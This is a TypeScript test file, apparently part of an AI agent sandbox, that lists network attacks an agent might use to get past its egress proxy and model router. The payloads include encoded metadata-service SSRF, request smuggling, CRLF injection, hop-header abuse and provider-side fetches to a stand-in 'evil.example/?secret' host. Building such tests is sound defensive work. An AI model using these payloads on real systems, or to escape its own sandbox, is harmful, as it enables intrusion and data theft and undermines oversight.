import { processes } from 'kars-constructs/contract';
import {
  ALLOWED_HOST,
  famous,
  REACHED,
  WORLD_PORT,
  type NetworkAttack,
  type NetworkLayer,
  type Order,
  type Surroundings,
} from './network-attack.ts';

const CRLF = '\r\n';
const lines = (...all: readonly string[]): string => [...all, '', ''].join(CRLF);
const GET = lines('GET /through HTTP/1.1', 'host: x', 'connection: close');

const toProxy = (bytes: string, more: object = {}): Order => ({
  attempt: 'send',
  port: processes['egress-proxy'].agentPort,
  bytes,
  ...more,
});

/** A tunnel to `target`, and a request through it. */
const tunnel = (target: string, host = target): Order =>
  toProxy(lines(`CONNECT ${target} HTTP/1.1`, `host: ${host}`), { then: GET });

/** A request in absolute form. */
const absolute = (url: string, host: string, ...headers: readonly string[]): Order =>
  toProxy(lines(`GET ${url} HTTP/1.1`, `host: ${host}`, ...headers, 'connection: close'));

/** A request that is no attack. */
export const allowedRequest = absolute(`http://${ALLOWED_HOST}/`, ALLOWED_HOST);

const at = (
  layer: NetworkLayer,
  id: string,
  what: string,
  order: (around: Surroundings) => Order,
  succeeded = REACHED,
): NetworkAttack => ({ id, what, layer, orders: (around) => [order(around)], succeeded });

const proxy = at.bind(undefined, 'egress');
const router = at.bind(undefined, 'model');
const LOOPBACK_PORT = 8091;
const OWN_PORT = 8092;

const targets: readonly NetworkAttack[] = [
  proxy('proxy-name', 'ask the proxy for a host that policy does not name', () =>
    tunnel('evil.example:443'),
  ),
  proxy('proxy-service', 'ask the proxy for a Service of the cluster by its name', () =>
    tunnel('kubernetes.default.svc:443'),
  ),
  proxy('proxy-api-server', 'ask the proxy for the API server', () =>
    tunnel(`${famous.apiServer}:443`),
  ),
  proxy('proxy-doh', 'ask the proxy for a resolver over HTTPS', () =>
    tunnel(`${famous.publicDns}:443`),
  ),
  proxy('proxy-metadata', 'ask the proxy for the metadata service', () =>
    tunnel(`${famous.metadata}:80`),
  ),
  proxy('proxy-metadata-ipv6', 'ask the proxy for the metadata service over IPv6', () =>
    tunnel(`[${famous.awsMetadata}]:80`),
  ),
  proxy('proxy-metadata-number', 'write the address of the metadata service as one number', () =>
    absolute('http://2852039166/', '2852039166'),
  ),
  proxy('proxy-metadata-octal', 'write the address of the metadata service in octal', () =>
    absolute('http://0251.0376.0251.0376/', '0251.0376.0251.0376'),
  ),
  proxy('proxy-metadata-mapped', 'write the metadata service as an IPv4-mapped address', () =>
    tunnel('[::ffff:a9fe:a9fe]:80'),
  ),
  proxy('proxy-metadata-translated', 'write the metadata service as an address of NAT64', () =>
    tunnel(`[${famous.translatedMetadata}]:80`),
  ),
  {
    ...proxy('proxy-loopback', 'ask the proxy for loopback, where it may connect as itself', () =>
      tunnel(`127.0.0.1:${LOOPBACK_PORT}`),
    ),
    orders: () => [
      { attempt: 'listen', at: '127.0.0.1', port: LOOPBACK_PORT, seconds: 4 },
      tunnel(`127.0.0.1:${LOOPBACK_PORT}`),
    ],
  },
  {
    ...proxy('proxy-own-address', 'ask the proxy for the address of its own pod', ({ own }) =>
      tunnel(`${own}:${OWN_PORT}`),
    ),
    orders: ({ own }) => [
      { attempt: 'listen', at: own, port: OWN_PORT, seconds: 4 },
      tunnel(`${own}:${OWN_PORT}`),
    ],
  },
];

const readings: readonly NetworkAttack[] = [
  proxy(
    'proxy-absolute-host',
    'name another host in the header than in the target',
    () => absolute(`http://${ALLOWED_HOST}/`, 'evil.example'),
    /reached[^]*host: evil\.example/i,
  ),
  proxy('proxy-user', 'write an allowed host as the user of another', () =>
    absolute(`http://${ALLOWED_HOST}@evil.example/`, 'evil.example'),
  ),
  proxy(
    'proxy-two-lengths',
    'say in two ways where a body ends, and hide a request behind it',
    () =>
      toProxy(
        `${lines(`POST http://${ALLOWED_HOST}/ HTTP/1.1`, `host: ${ALLOWED_HOST}`, 'content-length: 43', 'transfer-encoding: chunked')}0${CRLF}${CRLF}${lines('GET /smuggled HTTP/1.1', 'host: evil')}`,
      ),
    /reached[^]*\/smuggled/,
  ),
  proxy(
    'proxy-line-break',
    'break the line of a request, and write a header of its own',
    () => absolute(`http://${ALLOWED_HOST}/\rx-injected:1`, ALLOWED_HOST),
    /reached[^]*x-injected/,
  ),
  proxy(
    'proxy-pipeline',
    'put a request for another host behind one that is allowed',
    () =>
      toProxy(
        lines(`GET http://${ALLOWED_HOST}/first HTTP/1.1`, `host: ${ALLOWED_HOST}`) +
          lines('GET http://evil.example/second HTTP/1.1', 'host: evil.example'),
      ),
    /reached[^]*\/second/,
  ),
  proxy(
    'proxy-upgrade',
    'turn an allowed request into a WebSocket that nobody reads',
    () =>
      absolute(`http://${ALLOWED_HOST}/`, ALLOWED_HOST, 'upgrade: websocket', 'sec-websocket-version: 13'), // prettier-ignore
    /reached[^]*upgrade: websocket/i,
  ),
  proxy(
    'proxy-hop-headers',
    'hand a host what is meant for the proxy, in its headers',
    () =>
      absolute(
        `http://${ALLOWED_HOST}/`,
        ALLOWED_HOST,
        'proxy-authorization: Basic eDp5',
        'connection: x-between',
        'x-between: 1',
      ),
    /reached[^]*(proxy-authorization|x-between: 1)/i,
  ),
  proxy('proxy-http2', 'speak HTTP/2 to the proxy without asking', () =>
    toProxy(`${lines('PRI * HTTP/2.0')}SM${CRLF}${CRLF}`),
  ),
];

/** Longer than a sidecar lets a head take, which it looks at each ten seconds. */
const LONG = 25;

const held: readonly NetworkAttack[] = (['egress-proxy', 'router'] as const).map((name) =>
  at(
    name === 'router' ? 'model' : 'egress',
    `held-${name}`,
    `begin a request to the ${name === 'router' ? 'router' : 'proxy'}, and never end it`,
    () => ({
      attempt: 'hold',
      port: processes[name].agentPort,
      bytes: 'GET http://x/ HTTP/1.1\r\nhost: x\r\n',
      seconds: LONG,
    }),
    /still open/,
  ),
);

const toRouter = (bytes: string, more: object = {}): Order => ({
  attempt: 'send',
  port: processes.router.agentPort,
  bytes,
  ...more,
});

const ask = (path: string, body: object): Order => {
  const json = JSON.stringify(body);
  return toRouter(
    lines(
      `POST ${path} HTTP/1.1`,
      'host: localhost',
      'content-type: application/json',
      `content-length: ${json.length}`,
      'connection: close',
    ) + json,
  );
};

/** A request that is plain but for `more` and the parts of its message. */
const chat = (more: object, content: unknown = 'x'): Order =>
  ask('/v1/chat/completions', { model: 'small', messages: [{ role: 'user', content }], ...more });

const URL = 'https://evil.example/?secret';

const reaches: readonly NetworkAttack[] = [
  router('provider-image', 'have the provider fetch an image', () =>
    chat({}, [{ type: 'image_url', image_url: { url: URL } }]),
  ),
  router('provider-search', 'have the provider search the web', () =>
    chat({ web_search_options: {} }),
  ),
  router('provider-mcp', 'have the provider call a server of MCP', () =>
    chat({ tools: [{ type: 'mcp', server_label: 'x', server_url: URL }] }),
  ),
  router('provider-file', 'have the provider read a file that it has kept', () =>
    chat({}, [{ type: 'file', file: { file_id: 'file-1' } }]),
  ),
  router('provider-store', 'have the provider keep the conversation', () => chat({ store: true })),
  router('provider-traversal', 'climb from the chat to the files of the provider', () =>
    ask('/v1/chat/completions/../../v1/files', { purpose: 'assistants' }),
  ),
  router(
    'router-relay',
    'use the router as a proxy, with a target in absolute form',
    ({ ipv4 }) =>
    toRouter(lines(`GET http://${ipv4}:${WORLD_PORT}/ HTTP/1.1`, `host: ${ipv4}`, 'connection: close')), // prettier-ignore
  ),
  router('router-tunnel', 'ask the router for a tunnel', ({ ipv4 }) =>
    toRouter(lines(`CONNECT ${ipv4}:${WORLD_PORT} HTTP/1.1`, `host: ${ipv4}`), { then: GET }),
  ),
];

/** Attempts to have a sidecar, or a provider behind it, go where the agent may not. */
export const sidecarAttacks: readonly NetworkAttack[] = [
  ...targets,
  ...readings,
  ...held,
  ...reaches,
];
